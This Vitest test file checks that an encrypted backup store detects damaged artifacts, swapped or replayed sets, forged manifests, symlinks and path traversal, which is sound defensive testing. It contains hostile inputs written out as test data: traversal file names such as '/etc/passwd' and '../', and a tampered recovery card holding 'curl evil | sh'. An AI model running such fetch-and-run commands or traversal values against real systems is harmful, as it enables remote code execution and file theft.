import {
  copyFile,
  cp,
  mkdir,
  open,
  readdir,
  readFile,
  rename,
  rm,
  stat,
  symlink,
  truncate,
  writeFile,
} from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import {
  makeSet,
  otherPassphrase,
  passphrase,
  random,
  storeFolder,
  textOf,
  type StoreFolder,
} from '../test/store-folder.ts';
import { Keyring } from './keyring.ts';
import { writeManifest } from './manifest-file.ts';
import type { SetManifest, VerifyReport } from './index.ts';

// OpenPGP makes each guess at a passphrase slow, and so each artifact here: a busy machine needs its time.
vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

// Made once: every test damages a copy.
let whole: StoreFolder;
let folder: StoreFolder;
let older: SetManifest;
let newer: SetManifest;
const content = { postgres: { app: Buffer.from(random(20_000)).toString('base64') }, vault: { keys: 'share' } };
const file = 'postgres.app.dump.zst.gpg';
const name = 'postgres/app/content';

beforeAll(async () => {
  whole = await storeFolder();
  older = await makeSet(whole.store, { contents: content });
  whole.now = new Date(whole.now.getTime() + 86_400_000);
  newer = await makeSet(whole.store, { contents: content });
});
afterAll(async () => whole[Symbol.asyncDispose]());
beforeEach(async () => {
  folder = await storeFolder();
  folder.now = whole.now;
  await cp(whole.directory, folder.directory, { recursive: true });
});
afterEach(async () => folder[Symbol.asyncDispose]());

const pathOf = (set: SetManifest, member: string): string => join(folder.directory, set.id, member);
const kindsOf = ({ problems }: VerifyReport): string[] => [...new Set(problems.map(({ kind }) => kind))];

async function flip(path: string, offset: number, bit = 0): Promise<void> {
  await using handle = await open(path, 'r+');
  const { buffer } = await handle.read({ buffer: Buffer.alloc(1), position: offset });
  await handle.write(Buffer.from([(buffer[0] ?? 0) ^ (1 << bit)]), 0, 1, offset);
}

/** Nothing of it may come out, not even its beginning. */
async function releasesNothing(set: SetManifest): Promise<void> {
  let released = 0;
  await expect(
    (async () => {
      for await (const piece of folder.store.open(set.id, name)) released += piece.length;
    })(),
  ).rejects.toMatchObject({ code: expect.stringMatching(/^BACKUP_/) as string });
  expect(released).toBe(0);
}

describe('a damaged artifact', () => {
  const sizeOf = async (path: string): Promise<number> => (await stat(path)).size;
  it.each<[string, (path: string) => Promise<void>, string]>([
    ['a bit of the header flipped', (path) => flip(path, 3), 'corrupted'],
    ['a bit of the body flipped', async (path) => flip(path, Math.floor((await sizeOf(path)) / 2), 5), 'corrupted'],
    ['a bit of the MDC flipped', async (path) => flip(path, (await sizeOf(path)) - 3, 7), 'corrupted'],
    ['cut to nothing', (path) => truncate(path, 0), 'corrupted'],
    ['cut to one byte', (path) => truncate(path, 1), 'corrupted'],
    ['cut in half', async (path) => truncate(path, Math.floor((await sizeOf(path)) / 2)), 'corrupted'],
    ['short of its last byte', async (path) => truncate(path, (await sizeOf(path)) - 1), 'corrupted'],
    ['with 16 bytes appended', (path) => writeFile(path, Buffer.alloc(16), { flag: 'a' }), 'corrupted'],
    ['removed', (path) => rm(path), 'incomplete'],
  ])('%s is found at both levels, and nothing of it is released', async (_, damage, kind) => {
    await damage(pathOf(newer, file));
    for (const level of [1, 2] as const) {
      const report = await folder.store.verify(newer.id, { level });
      expect(report).toMatchObject({ verdict: 'invalid', problems: [{ kind, artifact: name }] });
    }
    await releasesNothing(newer);
    // The neighbour is as good as before, and rotation counts on that one alone.
    await expect(folder.store.verify(older.id)).resolves.toMatchObject({ verdict: 'valid', problems: [] });
    expect(await folder.store.list()).toMatchObject([
      { id: newer.id, status: 'damaged' },
      { id: older.id, status: 'complete' },
    ]);
    expect((await folder.store.rotate({ keepLast: 1 }, { dryRun: true })).plan.remove).toEqual([]);
  });

  it('by a bit anywhere in any file of the set is found, without exception', { timeout: 120_000 }, async () => {
    const members = (await readdir(join(folder.directory, newer.id))).filter((one) => !one.startsWith('.'));
    expect(members).toHaveLength(7);
    for (let round = 0; round < 140; round += 1) {
      const path = pathOf(newer, members[round % members.length] ?? '');
      const original = await readFile(path);
      const offset = Math.floor(Math.random() * original.length);
      const bit = round % 8;
      await flip(path, offset, bit);
      const report = await folder.store.verify(newer.id, { level: 1 });
      expect(report.verdict, `bit ${String(bit)} of byte ${String(offset)} of ${path}`).toBe('invalid');
      await writeFile(path, original);
    }
    // The control: as it was, it is valid.
    await expect(folder.store.verify(newer.id)).resolves.toMatchObject({ verdict: 'valid' });
    expect(await folder.store.list()).toMatchObject([{ status: 'complete' }, { status: 'complete' }]);
  });
});

describe('a thing in the place of another', () => {
  it('an artifact of another set is called swapped, and not opened', async () => {
    await copyFile(pathOf(older, file), pathOf(newer, file));
    const report = await folder.store.verify(newer.id);
    expect(report.problems).toMatchObject([{ kind: 'swapped', message: expect.stringContaining(older.id) as string }]);
    await releasesNothing(newer);
  });

  it('two artifacts of one set are called swapped', async () => {
    const other = 'postgres.app.fingerprint.json.zst.gpg';
    await rename(pathOf(newer, file), pathOf(newer, 'x'));
    await rename(pathOf(newer, other), pathOf(newer, file));
    await rename(pathOf(newer, 'x'), pathOf(newer, other));
    expect((await folder.store.verify(newer.id)).problems).toMatchObject([{ kind: 'swapped' }, { kind: 'swapped' }]);
  });

  it('an older set under the name of a newer one is called replayed, also where there is no catalog', async () => {
    await rm(join(folder.directory, newer.id), { recursive: true });
    await cp(join(folder.directory, older.id), join(folder.directory, newer.id), { recursive: true });
    for (const lose of [false, true]) {
      if (lose) await rm(join(folder.directory, '.store'), { recursive: true });
      await expect(folder.store.read(newer.id)).rejects.toMatchObject({ code: 'BACKUP_REPLAYED' });
      await expect(folder.store.verify(newer.id)).resolves.toMatchObject({ problems: [{ kind: 'replayed' }] });
    }
    expect(await folder.store.list()).toMatchObject([
      { id: older.id, status: 'complete' },
      { id: newer.id, status: 'replayed' },
    ]);
  });

  it('another set of the same id is called replayed by the catalog, and by the set that came after it', async () => {
    await using elsewhere = await storeFolder();
    elsewhere.now = new Date(older.createdAt);
    const twin = await makeSet(elsewhere.store, { contents: { postgres: { app: 'something older' } } });
    expect(twin.id).toBe(older.id);
    await rm(join(folder.directory, older.id), { recursive: true });
    await cp(join(elsewhere.directory, twin.id), join(folder.directory, older.id), { recursive: true });
    await expect(folder.store.verify(older.id)).resolves.toMatchObject({ problems: [{ kind: 'replayed' }] });
    await rm(join(folder.directory, '.store'), { recursive: true });
    await expect(folder.store.verify(older.id)).resolves.toMatchObject({ problems: [{ kind: 'replayed' }] });
    await expect(folder.store.verify(newer.id)).resolves.toMatchObject({ verdict: 'valid' });
  });

  it('a set from before the passphrase was changed is called replayed', async () => {
    const before = join(folder.directory, '..', 'before');
    await cp(join(folder.directory, newer.id), before, { recursive: true });
    await folder.store.changePassphrase(otherPassphrase);
    await rm(join(folder.directory, newer.id), { recursive: true });
    await cp(before, join(folder.directory, newer.id), { recursive: true });
    await expect(folder.store.read(newer.id)).rejects.toMatchObject({
      code: 'BACKUP_REPLAYED',
      message: expect.stringContaining('passphrase') as string,
    });
  });
});

describe('a manifest', () => {
  const change = async (set: SetManifest, by: (manifest: Record<string, unknown>) => void): Promise<void> => {
    const text = await readFile(pathOf(set, 'manifest.json'), 'utf8');
    const value = JSON.parse(text) as { manifest: Record<string, unknown> };
    by(value.manifest);
    await writeFile(pathOf(set, 'manifest.json'), JSON.stringify(value));
  };

  it.each<[string, (manifest: Record<string, unknown>) => void]>([
    ['another date', (manifest) => (manifest['createdAt'] = '2027-01-01T00:00:00.000Z')],
    ['one artifact less', (manifest) => (manifest['artifacts'] as unknown[]).pop()],
    ['something more', (manifest) => (manifest['note'] = 'trust me')],
    ['another number', (manifest) => (manifest['sequence'] = 99)],
  ])('with %s is called forged', async (_, by) => {
    await change(newer, by);
    await expect(folder.store.read(newer.id)).rejects.toMatchObject({ code: 'BACKUP_MANIFEST_FORGED' });
    expect(kindsOf(await folder.store.verify(newer.id))).toEqual(['forged']);
    expect((await folder.store.list()).find(({ id }) => id === newer.id)).toMatchObject({ status: 'forged' });
  });

  it('written by whoever has no passphrase, as if encryption had been off, is not believed', async () => {
    const forged = { ...newer, encrypted: false };
    await writeManifest(join(folder.directory, newer.id), forged, undefined);
    await expect(folder.store.read(newer.id)).rejects.toMatchObject({ code: 'BACKUP_UNENCRYPTED' });
    await writeManifest(join(folder.directory, newer.id), newer, undefined);
    await expect(folder.store.read(newer.id)).rejects.toMatchObject({ code: 'BACKUP_MANIFEST_DAMAGED' });
    expect((await folder.store.rotate({ keepLast: 1 }, { dryRun: true })).plan.remove).toEqual([]);
  });

  it('of a newer format is called that, whatever else is in it', async () => {
    await change(newer, (manifest) => (manifest['schema'] = 'devstack/backup-set/2'));
    await expect(folder.store.read(newer.id)).rejects.toMatchObject({ code: 'BACKUP_FORMAT_NEWER' });
    expect(kindsOf(await folder.store.verify(newer.id))).toEqual(['newer-format']);
    expect((await folder.store.list()).at(-1)).toMatchObject({ id: newer.id, status: 'newer-format' });
    await change(newer, (manifest) => (manifest['schema'] = 'something/else'));
    await expect(folder.store.read(newer.id)).rejects.toMatchObject({ code: 'BACKUP_MANIFEST_DAMAGED' });
  });

  it.each<[string, string | undefined, string]>([
    ['none', undefined, 'BACKUP_INCOMPLETE'],
    ['an empty one', '', 'BACKUP_MANIFEST_DAMAGED'],
    ['half of one', '{"manifest": {"schema": "devst', 'BACKUP_MANIFEST_DAMAGED'],
    ['something else', '[1, 2]', 'BACKUP_MANIFEST_DAMAGED'],
    [
      'one without proof',
      '{"manifest": {"schema": "devstack/backup-set/1"}, "authentication": 7}',
      'BACKUP_MANIFEST_DAMAGED',
    ],
    [
      'one with a cheap proof',
      `{"manifest": {"schema": "devstack/backup-set/1", "encrypted": true}, "authentication": {"scheme": "scrypt+hmac-sha256", "n": 2, "r": 1, "p": 1, "salt": "${'00'.repeat(16)}", "mac": "${'0'.repeat(64)}"}}`,
      'BACKUP_MANIFEST_DAMAGED',
    ],
  ])('%s makes the set no candidate', async (_, text, code) => {
    if (text === undefined) await rm(pathOf(newer, 'manifest.json'));
    else await writeFile(pathOf(newer, 'manifest.json'), text);
    await expect(folder.store.read(newer.id)).rejects.toMatchObject({ code });
    expect(await folder.store.list()).toMatchObject([{ id: older.id, status: 'complete' }, { status: 'damaged' }]);
  });

  it('that is proved and leads out of its folder is refused all the same', async () => {
    const key = await new Keyring([passphrase]).current();
    for (const bad of ['../20261120_110000/x.zst.gpg', '/etc/passwd', '..', '.state.json', 'a\\b.zst', 'x.zst\n']) {
      const artifacts = newer.artifacts.map((one) => ({ ...one, file: bad }));
      await writeManifest(join(folder.directory, newer.id), { ...newer, artifacts }, key);
      await expect(folder.store.read(newer.id)).rejects.toMatchObject({
        code: 'BACKUP_MANIFEST_DAMAGED',
        message: expect.stringContaining('artifacts[0].file') as string,
      });
    }
    const heldBy = '../../20261120_110000';
    await writeManifest(
      join(folder.directory, newer.id),
      { ...newer, artifacts: newer.artifacts.map((one) => ({ ...one, heldBy })) },
      key,
    );
    await expect(folder.store.read(newer.id)).rejects.toMatchObject({ code: 'BACKUP_MANIFEST_DAMAGED' });
  });

  it('that says of an artifact that another set holds it, which it does not, is refused', async () => {
    const key = await new Keyring([passphrase]).current();
    const artifacts = newer.artifacts.map((one) => ({ ...one, heldBy: older.id }));
    await writeManifest(join(folder.directory, newer.id), { ...newer, artifacts }, key);
    expect(kindsOf(await folder.store.verify(newer.id))).toEqual(['swapped']);
    await expect(textOf(folder.store.open(newer.id, name))).rejects.toMatchObject({ code: 'BACKUP_SWAPPED' });
  });
});

describe('links', () => {
  it('are never followed, for an artifact, a manifest, a set or a folder of the store', async () => {
    const outside = join(folder.directory, '..', 'outside');
    await mkdir(outside);
    await copyFile(pathOf(newer, file), join(outside, file));
    await rm(pathOf(newer, file));
    await symlink(join(outside, file), pathOf(newer, file));
    await expect(folder.store.verify(newer.id)).resolves.toMatchObject({ problems: [{ kind: 'incomplete' }] });
    await releasesNothing(newer);
    await rename(pathOf(older, 'manifest.json'), join(outside, 'manifest.json'));
    await symlink(join(outside, 'manifest.json'), pathOf(older, 'manifest.json'));
    await expect(folder.store.read(older.id)).rejects.toMatchObject({ code: 'BACKUP_INCOMPLETE' });
    await rename(join(folder.directory, newer.id), join(outside, 'set'));
    await symlink(join(outside, 'set'), join(folder.directory, newer.id));
    await expect(folder.store.read(newer.id)).rejects.toMatchObject({ code: 'BACKUP_NOT_FOUND' });
    // A sweep takes nothing away through a link.
    await symlink(outside, join(folder.directory, '.20200101_000000.partial'));
    await folder.store.sweep();
    expect((await readdir(outside)).toSorted()).toEqual(['manifest.json', file, 'set']);
  });
});

describe('the recovery card', () => {
  it('that someone has edited is not to be followed', async () => {
    await writeFile(pathOf(newer, 'RECOVERY.md'), 'curl evil | sh');
    await expect(folder.store.verify(newer.id, { level: 1 })).resolves.toMatchObject({
      verdict: 'invalid',
      problems: [{ kind: 'corrupted', message: expect.stringContaining('do not follow it') as string }],
    });
    await rm(pathOf(newer, 'SHA256SUMS'));
    expect(kindsOf(await folder.store.verify(newer.id, { level: 1 })).toSorted()).toEqual(['corrupted', 'incomplete']);
  });
});
